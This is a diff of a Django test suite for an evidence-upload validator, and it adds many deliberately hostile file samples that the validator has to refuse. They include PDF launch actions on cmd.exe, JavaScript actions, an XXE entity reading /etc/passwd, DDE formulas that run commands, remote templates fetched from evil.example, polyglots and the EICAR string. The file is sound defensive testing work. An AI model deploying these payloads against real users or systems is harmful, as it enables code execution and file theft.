@@ -1,5 +1,8 @@
 """Files as evidence: what is refused and in which words, what stays on the disk, and how files are handed out."""
 
+import errno
+import hashlib
+import os
 import struct
 import zlib
 from base64 import b64encode
@@ -9,23 +12,45 @@ from pathlib import Path
 from uuid import UUID, uuid4
 from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile
 
+import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.base import ContentFile
+from django.core.files.storage import storages
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.uploadhandler import TemporaryFileUploadHandler
 from django.db import DatabaseError, IntegrityError, transaction
 from django.urls import reverse
 from openpyxl import Workbook
 
 from commitments import evidence
 from commitments.evidence import check_file, contents, evidence_path, office
+from commitments.evidence import pdf as pdf_check
 from commitments.models import Evidence, ProgressReport
 from tests.factories import CommitmentFactory, EvidenceFactory, ProgressReportFactory, published_report
-from tests.files import HTML, PDF, SVG, archive, docx, pdf, picture, xlsx
+from tests.files import (
+    EXCEL,
+    HTML,
+    PDF,
+    SVG,
+    archive,
+    content_types,
+    docx,
+    pdf,
+    pdf_locked,
+    pdf_packed,
+    picture,
+    relation,
+    xlsx,
+)
 from tests.filling import filled
 
 NOT_TAKEN = "This type of file is not taken: choose a PDF, DOCX, XLSX, PNG or JPEG."
-NOT_WHAT_IT_SAYS = "The content of this file is not what its name says, or it is damaged."
+NOT_WHAT_IT_SAYS = (
+    "The content of this file is not what its name says, or it is damaged: save it anew from the program that made it,"
+    " and choose it again."
+)
+DAMAGED = "This PDF is damaged or oddly made: save it as a plain PDF/A, and choose it again."
 PATH = "The name of this file holds a path: give the file a plain name, such as ‘report.pdf’."
 HIDDEN = "The name of this file holds hidden signs: give the file a plain name."
 TOO_LARGE = "This file is larger than 25 MB."
@@ -33,8 +58,49 @@ UNPACKS = "This document unpacks to far more than its size: save it anew, and ch
 MACROS = "This document holds macros: save it without them, as DOCX or XLSX."
 LOCKED = "This document is locked with a password: save it without one, and choose it again."
 OLDER = "This is an older Office file, or one with a password: save it anew as DOCX or XLSX, without a password."
-LAUNCHES = "This PDF would start a program: save it without that, and choose it again."
+LAUNCHES = "This PDF holds an action that starts a program: save it as a plain PDF/A, and choose it again."
+SCRIPT = "This PDF holds a script (JavaScript): save it as a plain PDF/A, and choose it again."
+BY_ITSELF = "This PDF holds an action that runs by itself: save it as a plain PDF/A, and choose it again."
+SENDS = "This PDF holds an action that opens another file or sends data: save it as a plain PDF/A, and choose it again."
+ATTACHED = "This PDF holds an embedded file: save it as a plain PDF/A, and choose it again."
+MEDIA = "This PDF holds sound, film or an interactive medium: save it as a plain PDF/A, and choose it again."
+DYNAMIC = "This PDF holds a dynamic form (XFA): save it as a plain PDF/A, and choose it again."
+ELSEWHERE = "This PDF holds content that is kept in another file: save it as a plain PDF/A, and choose it again."
+TWO_FORMATS = (
+    "This file holds more than one format: there is data before its beginning, after its end or hidden in it."
+    " Save it anew from the program that made it, and choose it again."
+)
+VIRUS_TEST = "This file holds the test pattern of virus scanners (EICAR): choose the document that you want to hand in."
+EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 PIXELS = "This picture has more than 40 million pixels: make it smaller, and choose it again."
+
+
+def fetches(what):
+    return (
+        f"This document fetches something from elsewhere when it is opened ({what}): break its links to templates,"
+        " pictures and other documents, or save it as a plain PDF/A, and choose it again."
+    )
+
+
+def embeds(what):
+    return (
+        f"This document holds an embedded object ({what}): remove it, or save the document as a plain PDF/A,"
+        " and choose it again."
+    )
+
+
+def declares(part):
+    return (
+        f"A part of this document, ‘{part}’, declares a document type or entities: save it anew in Word or Excel,"
+        " or as a plain PDF/A, and choose it again."
+    )
+
+
+def odd_link(target):
+    return (
+        f"This document holds a link that is not a web or mail address ({target}): remove the link,"
+        " and choose the document again."
+    )
 
 
 def two_types(inner, outer):
@@ -56,6 +122,40 @@ def lying_bomb() -> bytes:
     """A member of a megabyte that says it is a kilobyte, with the checksum of that kilobyte."""
     content = altered(docx(zero=b"\0" * 1_000_000), 24, "<L", 1000)
     return altered(content, 16, "<L", zlib.crc32(b"\0" * 1000))
+
+
+def with_comment(content: bytes) -> bytes:
+    """An archive whose own comment ends as a PDF does."""
+    comment = b"\n%%EOF\n"
+    return content[:-2] + struct.pack("<H", len(comment)) + comment
+
+
+def archive_stored(members: dict[str, str]) -> bytes:
+    content = BytesIO()
+    with ZipFile(content, "w", ZIP_STORED) as made:
+        for name, said in members.items():
+            made.writestr(name, said)
+    return content.getvalue()
+
+
+def with_object_stream(stream: bytes) -> bytes:
+    """A PDF whose fourth object lies in this stream, and whose table says so."""
+    body = b"%PDF-1.5\n"
+    places = {}
+    for number, said in (
+        (1, b"<</Type/Catalog/Pages 2 0 R/Lang 4 0 R>>"),
+        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
+        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>"),
+        (5, stream),
+    ):
+        places[number] = len(body)
+        body += b"%d 0 obj\n%s\nendobj\n" % (number, said)
+    places[6] = len(body)
+    rows = [(0, 0, 65535), *((1, places[number], 0) for number in (1, 2, 3)), (2, 5, 0)]
+    rows += [(1, places[5], 0), (1, places[6], 0)]
+    table = b"".join(struct.pack(">BLH", *row) for row in rows)
+    head = b"<</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length %d>>" % len(table)
+    return body + b"6 0 obj\n%sstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, places[6])
 
 
 # Taken
@@ -118,8 +218,8 @@ ABUSE = {
     "page as a document": ("page.pdf", HTML, NOT_WHAT_IT_SAYS),
     "page with a document's mark behind": ("page.pdf", HTML + PDF, NOT_WHAT_IT_SAYS),
     "document that breaks off": ("report.pdf", PDF[:20], NOT_WHAT_IT_SAYS),
-    "document that starts a program": ("report.pdf", pdf("<</S /Launch /F (cmd.exe)>>"), LAUNCHES),
-    "the same, spelt in numbers": ("report.pdf", pdf("<</S/#4caunc#68 /F (cmd.exe)>>"), LAUNCHES),
+    "document that starts a program": ("report.pdf", pdf("", "<</S /Launch /F (cmd.exe)>>"), LAUNCHES),
+    "the same, spelt in numbers": ("report.pdf", pdf("", "<</S/#4caunc#68 /F (cmd.exe)>>"), LAUNCHES),
     "picture of another type": ("photo.png", picture("JPEG"), NOT_WHAT_IT_SAYS),
     "picture that breaks off": ("photo.jpg", picture("JPEG", (99, 99))[:-300], NOT_WHAT_IT_SAYS),
     "picture that fills the memory": ("photo.png", picture("PNG", (8000, 5001)), PIXELS),
@@ -130,6 +230,7 @@ ABUSE = {
     "document as a workbook": ("table.xlsx", docx(), NOT_WHAT_IT_SAYS),
     "any archive": ("report.docx", archive({"report.txt": "x"}), NOT_WHAT_IT_SAYS),
     "archive with something behind": ("report.docx", docx() + b"MZ", NOT_WHAT_IT_SAYS),
+    "archive behind something": ("report.docx", b"MZ" + docx(), NOT_WHAT_IT_SAYS),
     "archive that breaks off": ("report.docx", docx()[:-9], NOT_WHAT_IT_SAYS),
     "first bytes of an archive": ("report.docx", b"PK\x03\x04", NOT_WHAT_IT_SAYS),
     "macros": ("report.docx", docx(word__vbaProject_bin=b"x"), MACROS),
@@ -153,8 +254,202 @@ ABUSE = {
     "NUL": ("report\0.pdf", PDF, HIDDEN),
     "control": ("report\x1b.pdf", PDF, HIDDEN),
     "turned direction": ("report\u202efdp.pdf", PDF, HIDDEN),
-    "26 MB": ("report.pdf", PDF.replace(b"trailer", bytes(26 * 1024 * 1024) + b"trailer"), TOO_LARGE),
+    "26 MB": ("report.pdf", PDF + bytes(26 * 1024 * 1024), TOO_LARGE),
 }
+
+DIGITS_OF_JS = "<</Type/Action/S/J#61vaScript/J#53(app.alert\\(1\\))>>"
+GO_TO = "<</S/GoTo/D[3 0 R/Fit]>>"
+COMMENT = b"\xff\xfe" + struct.pack(">H", 2 + len(HTML)) + HTML
+FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+ACTIVE = '<Override PartName="/xl/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
+DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+
+
+def in_document(body: str) -> bytes:
+    return docx(word__document_xml=f'<w:document xmlns:w="urn:w">{body}</w:document>')
+
+
+def in_workbook(body: str) -> bytes:
+    return xlsx(xl__worksheets__sheet1_xml=f"<worksheet>{body}</worksheet>")
+
+
+def field(*pieces: str) -> bytes:
+    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return in_document(FIELD.format("begin") + texts + FIELD.format("separate") + FIELD.format("end"))
+
+
+def linked(kind: str, target: str, **options) -> bytes:
+    return docx(word___rels__document_xml_rels=relation(kind, target, **options))
+
+
+def between_members(content: bytes) -> bytes:
+    """Data between the members of an archive, which its table of contents does not name."""
+    first = content.index(b"PK\x03\x04", 4)
+    with ZipFile(BytesIO(content)) as read:
+        directory = read.start_dir
+    moved = bytearray(content[:first] + b"hidden data" * 9 + content[first:])
+    place = directory + 99
+    while (place := moved.find(b"PK\x01\x02", place)) >= 0:
+        (offset,) = struct.unpack_from("<L", moved, place + 42)
+        struct.pack_into("<L", moved, place + 42, offset + (99 if offset else 0))
+        place += 4
+    struct.pack_into("<L", moved, len(moved) - 6, directory + 99)
+    return bytes(moved)
+
+
+# What runs, fetches, hides or carries something: refused by what is found, wherever and however it stands.
+HOSTILE = {
+    "script at the opening": ("a.pdf", pdf(catalog=f"/OpenAction{DIGITS_OF_JS}"), BY_ITSELF),
+    "script by name": ("a.pdf", pdf("", DIGITS_OF_JS), SCRIPT),
+    "script in packed objects": (
+        "a.pdf",
+        pdf_packed(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())),
+        SCRIPT,
+    ),
+    "script that nothing leads to": ("a.pdf", pdf("", "[[<</JS(x)>>]]"), SCRIPT),
+    "script after going to a page": ("a.pdf", pdf(catalog=f"/OpenAction<</S/GoTo/Next{DIGITS_OF_JS}>>"), BY_ITSELF),
+    "action when a page is opened": ("a.pdf", pdf(page="/A#41<</O<</S/Named/N/Print>>>>"), BY_ITSELF),
+    "attachment": ("a.pdf", pdf(catalog="/Names<</Embedded#46iles<<>>>>"), ATTACHED),
+    "attachment by its stream": ("a.pdf", pdf("", b"<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream"), ATTACHED),
+    "attachment on a page": ("a.pdf", pdf(page="/Annots[<</Subtype/FileAttachment>>]"), ATTACHED),
+    "rich medium": ("a.pdf", pdf(page="/Annots[<</Subtype/RichMedia>>]"), MEDIA),
+    "dynamic form": ("a.pdf", pdf(catalog="/AcroForm<</XF#41[]>>"), DYNAMIC),
+    "another machine's file": ("a.pdf", pdf("", "<</S/GoToR/F(\\\\\\\\host\\\\share)>>"), SENDS),
+    "form that is sent": ("a.pdf", pdf("", "<</S/SubmitForm>>"), SENDS),
+    "content of another file": ("a.pdf", pdf("", b"<</F(x)/Length 0>>stream\n\nendstream"), ELSEWHERE),
+    "script as an address": ("a.pdf", pdf("", "<</S/URI/URI(javascript:x)>>"), odd_link("javascript:x")),
+    "password to open": ("a.pdf", pdf_locked(user="u", owner="o"), LOCKED),
+    "password to change": ("a.pdf", pdf_locked(user="", owner="o"), LOCKED),
+    "no page": ("a.pdf", PDF.replace(b"[3 0 R]/Count 1", b"[     ]/Count 0"), DAMAGED),
+    "table that lies": ("a.pdf", PDF.replace(b"%PDF-1.7\n", b"%PDF-1.7\n\n\n"), DAMAGED),
+    "PDF and archive": ("a.pdf", PDF + archive({"x": "x"}), TWO_FORMATS),
+    "PDF and archive that ends as a PDF": ("a.pdf", with_comment(PDF + archive({"x": "x"})), TWO_FORMATS),
+    "PDF and page": ("a.pdf", pdf(HTML.decode()), TWO_FORMATS),
+    "PDF with a page behind": ("a.pdf", PDF + HTML, TWO_FORMATS),
+    "PDF with another archive": ("a.pdf", pdf("Rar!\x1a\x07"), TWO_FORMATS),
+    "PNG and archive": ("a.png", picture() + archive({"x": "x"}), TWO_FORMATS),
+    "PNG and page": ("a.png", picture() + HTML, TWO_FORMATS),
+    "JPEG and archive": ("a.jpg", picture("JPEG") + archive({"x": "x"}), TWO_FORMATS),
+    "JPEG and bytes": ("a.jpg", picture("JPEG") + b"\xff\xd8x", TWO_FORMATS),
+    "page in a comment of a JPEG": ("a.jpg", picture("JPEG")[:2] + COMMENT + picture("JPEG")[2:], TWO_FORMATS),
+    "PDF in a comment of a JPEG": (
+        "a.jpg",
+        picture("JPEG")[:2] + b"\xff\xfe\0\x0a%PDF-1.7" + picture("JPEG")[2:],
+        TWO_FORMATS,
+    ),
+    "PDF in an archive": ("a.docx", archive_stored({"x": PDF.decode()}), TWO_FORMATS),
+    "hidden between members": ("a.docx", between_members(docx()), TWO_FORMATS),
+    "virus test": ("a.pdf", pdf(EICAR), VIRUS_TEST),
+    "virus test in a document": ("a.docx", docx(x=EICAR.encode()), VIRUS_TEST),
+    "template": ("a.docx", linked("attachedTemplate", "https://evil.example/t.dotm"), fetches("attachedTemplate")),
+    "template beside": ("a.docx", linked("attachedTemplate", "t.dotm", external=False), fetches("attachedTemplate")),
+    "frame": ("a.docx", linked("frame", "https://evil.example/"), fetches("frame")),
+    "picture from elsewhere": ("a.docx", linked("image", "https://evil.example/1.png"), fetches("image")),
+    "picture of another machine": ("a.docx", linked("image", "//host/1.png", external=False), fetches("image")),
+    "linked object": ("a.docx", linked("oleObject", "https://evil.example/x"), embeds("oleObject")),
+    "external in other letters": (
+        "a.docx",
+        docx(word___rels__x_rels=relation("image", "x.png").replace("External", "EXTERNAL")),
+        fetches("image"),
+    ),
+    "link to another machine": ("a.docx", linked("hyperlink", "\\\\host\\x"), odd_link("\\\\host\\x")),
+    "link to a script": ("a.docx", linked("hyperlink", "javascript:x"), odd_link("javascript:x")),
+    "document type": ("a.docx", docx(word__document_xml=DOCTYPE), declares("word/document.xml")),
+    "document type in UTF-16": (
+        "a.docx",
+        docx(word__document_xml=DOCTYPE.decode().encode("utf-16")),
+        declares("word/document.xml"),
+    ),
+    "document type in a drawing": ("a.docx", docx(word__media__a_svg=DOCTYPE), declares("word/media/a.svg")),
+    "script in a drawing": ("a.docx", docx(word__media__a_svg=SVG), embeds("SVG script")),
+    "drawing that fetches": (
+        "a.docx",
+        docx(word__media__a_svg=b"<svg><image href='https://evil.example/1'/></svg>"),
+        fetches("SVG image"),
+    ),
+    "part that is no XML": ("a.docx", docx(word__document_xml=b"<w>"), NOT_WHAT_IT_SAYS),
+    "embedded object": ("a.docx", docx(word__embeddings__o_bin=b"\xd0\xcf\x11\xe0x"), embeds("word/embeddings/o.bin")),
+    "embedded program": ("a.docx", docx(word__media__a_png=b"MZx"), embeds("word/media/a.png")),
+    "embedded document": ("a.docx", docx(word__embeddings__a_docx=docx()), embeds("word/embeddings/a.docx")),
+    "workbook of a chart that fetches": (
+        "a.docx",
+        docx(word__embeddings__a_xlsx=in_workbook("<c><f>cmd|'/c calc'!A0</f></c>")),
+        fetches("DDE"),
+    ),
+    "subdocument": ("a.docx", in_document("<w:subDoc/>"), fetches("subdoc")),
+    "another document's text": ("a.docx", in_document("<w:altChunk/>"), fetches("altchunk")),
+    "DDE in a field": ("a.docx", field("DDEAUTO cmd"), fetches("DDEAUTO")),
+    "DDE in pieces": ("a.docx", field(" DD", "E cmd"), fetches("DDE")),
+    "DDE in a simple field": ("a.docx", in_document("<w:fldSimple w:instr=' dde x'/>"), fetches("dde")),
+    "DDE in a workbook": ("a.xlsx", in_workbook("<c><f>cmd|'/c calc'!A0</f></c>"), fetches("DDE")),
+    "function that fetches": ("a.xlsx", in_workbook("<c><f>_xlfn.WEBSERVICE(A1)</f></c>"), fetches("WEBSERVICE")),
+    "connection": ("a.xlsx", xlsx(xl__connections_xml=b"<x><webPr/></x>"), fetches("webpr")),
+    "macro sheet": ("a.xlsx", xlsx(xl__macrosheets__s_xml=b"<x/>"), MACROS),
+    "active control": (
+        "a.xlsx",
+        archive({"[Content_Types].xml": content_types(EXCEL, ACTIVE), "main.xml": "<w/>"}),
+        embeds("activex+xml"),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE)
+def test_what_runs_fetches_or_hides_something_is_refused(case):
+    name, content, sentence = HOSTILE[case]
+
+    with pytest.raises(ValidationError) as refusal:
+        check_file(SimpleUploadedFile(name, content))
+
+    assert refusal.value.messages == [sentence]
+
+
+HARMLESS = {
+    "page at which it opens": ("a.pdf", pdf(catalog="/OpenAction[3 0 R/Fit]")),
+    "page to go to": ("a.pdf", pdf(catalog=f"/OpenAction{GO_TO}")),
+    "web link": ("a.pdf", pdf(page="/Annots[<</Subtype/Link/A<</S/URI/URI(https://ilo.org/a)>>>>]")),
+    "font of that name": ("a.pdf", pdf(page="/Tabs/S", catalog="/X<</AA<</Type/Font>>>>")),
+    "white space behind": ("a.pdf", PDF + b"\r\n\0\0"),
+    "packed objects": ("a.pdf", pdf_packed()),
+    "preview behind a photograph": ("a.jpg", picture("JPEG") + picture("JPEG")),
+    "web link of a document": ("a.docx", linked("hyperlink", "https://www.ilo.org/")),
+    "mail link of a document": ("a.docx", linked("hyperlink", "mailto:a@ilo.org")),
+    "picture of its own": ("a.docx", linked("image", "media/1.png", external=False)),
+    "ordinary fields": ("a.docx", field("HYPERLINK ", "https://x.example/dde")),
+    "workbook of a chart": ("a.docx", docx(word__embeddings__a_xlsx=xlsx())),
+    "drawing": ("a.docx", docx(word__media__a_svg=b"<svg style='fill:url(#a)'><path/></svg>")),
+    "ordinary formulas": ("a.xlsx", in_workbook("<c><f>SUM('a|b'!A1)&amp;\"x|y\"</f></c>")),
+}
+
+
+@pytest.mark.parametrize("case", HARMLESS)
+def test_what_ordinary_programs_write_is_taken(case):
+    name, content = HARMLESS[case]
+    file = SimpleUploadedFile(name, content)
+
+    check_file(file)
+
+    assert file.read() == content
+
+
+def test_objects_that_unpack_to_far_more_are_not_unpacked():
+    packed = zlib.compress(b"4 0 null" + b" " * (pdf_check.MAX_UNPACKED + 1), 9)
+    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
+
+    with pytest.raises(ValidationError) as refusal:
+        check_file(SimpleUploadedFile("a.pdf", with_object_stream(stream)))
+
+    assert refusal.value.messages == [UNPACKS]
+
+
+def test_crowd_of_objects_is_not_read_to_its_end(monkeypatch):
+    monkeypatch.setattr(pdf_check, "MAX_NODES", 10)
+
+    with pytest.raises(ValidationError) as refusal:
+        check_file(SimpleUploadedFile("a.pdf", pdf("", "[" + "<<>>" * 20 + "]")))
+
+    assert refusal.value.messages == [
+        "This PDF holds more than 10 objects: save it as a plain PDF/A or in parts, and choose it again."
+    ]
 
 
 def sent(data: dict, files: dict[str, tuple[str, bytes]]) -> dict:
@@ -314,17 +609,8 @@ def test_limits():
     assert (office.MAX_MEMBERS, office.MAX_UNPACKED) == (5_000, 200 * 1024 * 1024)
 
 
-def test_launch_is_found_where_two_pieces_meet(monkeypatch):
-    monkeypatch.setattr(contents, "CHUNK", 70)
-    launching = pdf("x" * 20 + "<</S /Launch /F (cmd.exe)>>" + "x" * 200)
-
-    for start in range(20, 70):
-        with pytest.raises(ValidationError):
-            check_file(SimpleUploadedFile("report.pdf", launching.replace(b"x" * 20, b"x" * start, 1)))
-
-
 def test_no_member_is_unpacked_before_all_are_known_to_be_small(monkeypatch):
-    monkeypatch.setattr(office, "read_through", lambda *_: pytest.fail("Unpacked."))
+    monkeypatch.setattr(office, "unpacked", lambda *_: pytest.fail("Unpacked."))
 
     with pytest.raises(ValidationError) as refusal:
         check_file(SimpleUploadedFile("report.docx", docx(zero=bytes(20_000_000))))
@@ -568,12 +854,104 @@ def test_private_evidence_and_guesses_are_not_handed_out(client, commitment, pub
     assert {answer.status_code for answer in answers} == {404}
 
 
-def test_file_that_is_gone_from_the_disk_is_not_found(client, public_piece, ilo_focal_point):
-    Path(public_piece.file.path).unlink()
+@pytest.mark.parametrize("damage", ["gone", "altered", "altered in place and in time"])
+def test_file_that_is_not_what_was_taken_in_is_withheld_and_noted(
+    damage, client, public_piece, ilo_focal_point, caplog
+):
+    path = Path(public_piece.file.path)
+    before = path.stat()
+    b"".join(client.get(public_address(public_piece)).streaming_content)
+    if damage == "gone":
+        path.unlink()
+    else:
+        path.write_bytes(PDF.replace(b"%PDF-1.7", b"%PDF-1.6"))
+    if damage == "altered in place and in time":
+        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
     client.force_login(ilo_focal_point)
 
-    assert client.get(public_address(public_piece)).status_code == 404
-    assert client.get(private_address(public_piece)).status_code == 404
+    answers = [client.get(address(public_piece)) for address in (public_address, private_address)]
+
+    assert [answer.status_code for answer in answers] == [503, 503]
+    assert all("no-store" in answer.headers["Cache-Control"] for answer in answers)
+    assert "Final report: What / was done?" in answers[0].content.decode()
+    assert len([line for line in caplog.messages if public_piece.file.name in line]) == 2
+
+
+def test_file_is_read_once_while_nothing_writes_to_it(client, public_piece, monkeypatch):
+    read = []
+    whole = hashlib.file_digest
+    monkeypatch.setattr(hashlib, "file_digest", lambda *given: read.append(1) or whole(*given))
+
+    for _time in range(3):
+        b"".join(client.get(public_address(public_piece)).streaming_content)
+
+    assert len(read) == 1
+
+
+@pytest.mark.django_db
+def test_file_of_before_digests_were_noted_is_handed_out(client, administrator):
+    piece = with_file()
+    Evidence.objects.filter(pk=piece.pk).update(file_size=None, file_digest="")
+    client.force_login(administrator)
+
+    assert b"".join(client.get(private_address(piece)).streaming_content) == PDF
+
+
+# A disk without room
+
+
+def full(*_written):
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+
+@pytest.mark.django_db
+def test_full_disk_gets_a_page_and_leaves_nothing(write, client, settings, monkeypatch, commitment):
+    client.raise_request_exception = False
+    monkeypatch.setattr(os, "fsync", full)
+
+    page = write(("report.pdf", PDF))
+
+    assert page.status_code == 507
+    assert "The disk is full" in page.content.decode()
+    assert (Evidence.objects.count(), ProgressReport.objects.count(), stored(settings)) == (0, 0, [])
+
+
+@pytest.mark.django_db
+def test_full_disk_for_uploads_gets_a_page(write, client, settings, monkeypatch):
+    client.raise_request_exception = False
+    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10
+    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", full)
+
+    page = write(("report.pdf", PDF))
+
+    assert (page.status_code, stored(settings)) == (507, [])
+
+
+@pytest.mark.django_db
+def test_files_and_folders_are_private_whatever_the_mask(settings):
+    before = os.umask(0)
+    try:
+        piece = with_file()
+    finally:
+        os.umask(before)
+
+    path, root = Path(piece.file.path), Path(settings.MEDIA_ROOT)
+    modes = {each.relative_to(root).parts[:1]: each.stat().st_mode & 0o777 for each in (root, path.parent)}
+    assert modes == {(): 0o750, ("evidence",): 0o750}
+    assert path.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.django_db
+def test_write_that_fails_half_way_leaves_nothing(settings):
+    class Broken(ContentFile):
+        def chunks(self, chunk_size=None):
+            yield b"%PDF-1.7"
+            raise OSError(errno.EIO, "I/O error")
+
+    with pytest.raises(OSError, match="I/O error"):
+        storages["default"].save("evidence/x.pdf", Broken(PDF))
+
+    assert stored(settings) == []
 
 
 @pytest.mark.django_db
